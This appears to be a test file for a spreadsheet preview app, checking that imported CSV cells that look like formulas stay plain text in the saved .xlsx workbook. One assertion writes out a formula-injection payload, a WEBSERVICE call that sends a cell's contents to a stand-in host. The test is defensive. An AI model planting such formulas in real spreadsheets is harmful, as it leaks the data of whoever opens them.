/**
 * What the preview does with a .csv from its file picker (src/preview/PreviewApp.tsx): read
 * as text by papaparse, held as an .xlsx workbook of that one sheet; the cells a spreadsheet
 * would take for formulas are text in the sheet and in the package saved (the download).
 */
import { injectionCsv, injectionUnicodeText, INJECTIONS } from '../helpers/crafted-packages';
import { looksLikeCsv, readCsv } from '../../src/workbook/csv';
import { XlsxWorkbook } from '../../src/workbook/xlsx';
import { ZipReader } from '../../src/ooxml/zip';
import { looksLikeZip } from '../../src/ooxml/zip-read';

test.each([
  ['UTF-8 with ";"', new Uint8Array(Buffer.from(injectionCsv())), 'ds.csv', 'ds'],
  ['Unicode Text (UTF-16 LE, tabs)', injectionUnicodeText(), 'ds unicode.txt', 'ds unicode'],
])('%s: one sheet named after the file, the notes as text, no formula in the package', async (_what, bytes, file, sheet) => {
  expect(looksLikeZip(bytes)).toBe(false);
  expect(looksLikeCsv(bytes)).toBe(true);
  const wb = await XlsxWorkbook.fromGrids([readCsv(bytes, file).grid]);
  expect((await wb.sheets()).map((s) => s.name)).toEqual([sheet]);
  const [grid] = await wb.read([sheet]);
  expect(grid.values[0]).toEqual(['STT', 'Họ và tên', 'Đơn vị', 'Xếp loại', 'Ghi chú']);
  expect(grid.values.slice(1).map((r) => r[4])).toEqual([...INJECTIONS]);
  expect(grid.values[2][2]).toBe('Phòng; Tổng hợp');
  expect(grid.formulaCells).toEqual([]);
  const saved = ZipReader.open(await wb.save());
  const sheetXml = new TextDecoder().decode(saved.read('xl/worksheets/sheet1.xml'));
  expect(sheetXml).not.toMatch(/<f[ >]/);
  expect(sheetXml).toContain('<t>=WEBSERVICE(&quot;http://x.example/?d=&quot;&amp;B2)</t>');
});

test('a workbook (zip) or an HTML page is not taken for a CSV', async () => {
  const xlsx = await (await XlsxWorkbook.create()).save();
  expect(looksLikeZip(xlsx)).toBe(true);
  expect(looksLikeCsv(new Uint8Array(Buffer.from('<html><body><table><tr><td>a;b</td></tr>\n<tr><td>c;d</td></tr></table></body></html>')))).toBe(false);
  expect(looksLikeCsv(new Uint8Array(Buffer.from('chỉ một dòng;không đủ')))).toBe(false);
});
